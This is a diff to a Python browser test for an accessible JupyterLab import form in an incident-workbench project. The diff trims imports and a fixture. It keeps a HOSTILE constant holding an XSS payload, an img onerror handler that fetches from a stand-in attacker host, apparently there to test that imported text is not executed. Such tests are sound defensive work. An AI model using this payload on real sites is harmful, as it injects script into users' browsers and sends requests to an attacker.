@@ -1,29 +1,21 @@
 """The import form in a real JupyterLab: look, then bring in; by keyboard, and readable by a screen reader."""
 
-from collections.abc import Iterator
 from pathlib import Path
 
-import pytest
 from axe_playwright_python.sync_playwright import Axe
-from playwright.sync_api import Browser, expect
+from playwright.sync_api import expect
 
 from incident_workbench.model.claims import Restriction
 from incident_workbench.store import Store
-from tests.browser.lab import Lab, serving
+from tests.browser.lab import Lab
 
 SHOW = """\
 from incident_workbench import Store
 from incident_workbench.widgets import Import
 store = Store.open("night")
-form = Import(store.import_file, by="kim", sit=store.sit)
+form = Import(store.import_file, by="kim")
 form"""
 HOSTILE = "<img src=x onerror=\"window.__fired=1;fetch('http://evil.invalid/x')\">"
-
-
-@pytest.fixture(scope="module")
-def lab(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
-    with serving(tmp_path_factory.mktemp("lab"), browser) as lab:
-        yield lab
 
 
 def test_a_transcript_is_looked_at_and_then_brought_in_by_keyboard(lab: Lab, tmp_path: Path) -> None:
